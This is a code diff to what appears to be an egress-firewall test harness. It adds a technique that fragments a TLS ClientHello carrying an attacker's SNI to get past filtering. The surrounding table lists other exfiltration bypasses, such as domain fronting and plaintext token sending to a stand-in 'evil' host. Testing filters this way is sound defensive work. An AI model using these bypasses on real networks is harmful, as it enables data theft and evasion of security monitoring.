@@ -9,6 +9,7 @@ from __future__ import annotations
 import base64
 import socket
 import ssl
+import time
 from dataclasses import dataclass
 
 from dnsfw.playground import atlas
@@ -108,6 +109,31 @@ def other_method(loot: Loot) -> None:
     fetch(loot, Get(atlas.SHARED_NAME, atlas.SHARED_NAME, atlas.SHARED_NAME, _asset(loot), "PUT"))
 
 
+def in_pieces(loot: Loot) -> None:
+    """A ClientHello whose parts come one by one."""
+    come, gone = ssl.MemoryBIO(), ssl.MemoryBIO()
+    tls = ssl.create_default_context(cafile=loot.authority).wrap_bio(come, gone, server_hostname=atlas.EVIL_SHARED_NAME)
+    with socket.create_connection((atlas.SHARED.v4, 443)) as plain:
+        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        while not _shaken(tls):
+            hello = gone.read()
+            for start in range(0, len(hello), 100):
+                plain.sendall(hello[start : start + 100])
+                time.sleep(0.02)
+            come.write(plain.recv(1 << 16))
+        tls.write(f"GET {_path(loot)} HTTP/1.1\r\nHost: {atlas.EVIL_SHARED_NAME}\r\n\r\n".encode())
+        plain.sendall(gone.read())
+        plain.recv(1)
+
+
+def _shaken(tls: ssl.SSLObject) -> bool:
+    try:
+        tls.do_handshake()
+    except ssl.SSLWantReadError:
+        return False
+    return True
+
+
 def not_tls(loot: Loot) -> None:
     with socket.create_connection((atlas.SHARED.v4, 443)) as telling:
         telling.sendall(loot.token.encode())
@@ -124,6 +150,7 @@ WAYS = (
     Way("shared-sni4", "attacker's SNI, allowed address, IPv4", (11, 26), shared_address),
     Way("shared-sni6", "attacker's SNI, allowed address, IPv6", (11, 26), shared_address_v6),
     Way("shared-no-sni", "no SNI, allowed address", (26,), shared_address_without_sni),
+    Way("shared-pieces", "attacker's SNI in pieces, allowed address", (26,), in_pieces),
     Way("shared-not-tls", "no TLS at all, allowed address", (26,), not_tls),
     Way("fronting", "allowed SNI, attacker's Host header", (26,), fronted),
     Way("url-path", "another path of an allowed host", (27,), other_path),
